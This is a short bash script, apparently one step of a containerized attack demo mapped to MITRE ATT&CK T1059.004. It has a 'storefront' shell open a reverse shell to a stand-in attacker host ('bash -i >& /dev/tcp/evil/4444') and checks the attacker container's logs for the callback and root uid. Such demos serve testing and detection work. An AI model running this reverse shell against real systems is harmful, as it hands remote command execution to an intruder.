#!/usr/bin/env bash
# Has a shell of the storefront call the attacker's machine and take commands from it. MITRE ATT&CK T1059.004, Unix Shell.
. "$(dirname "$0")/lib.sh"

out=$(through_label "MARK=$mark timeout 8 bash -c 'bash -i >& /dev/tcp/evil/4444 0>&1'")
seen "shell from .*$mark" || stopped "no shell called: $out"
worked "the attacker's machine noted: $(docker logs --since 90s castellan-demo-evil 2>/dev/null | grep "shell from .*$mark" | grep -o 'shell from [0-9.]*\|uid=0[^ ]*' | head -n 2 | tr '\n' ' ')"
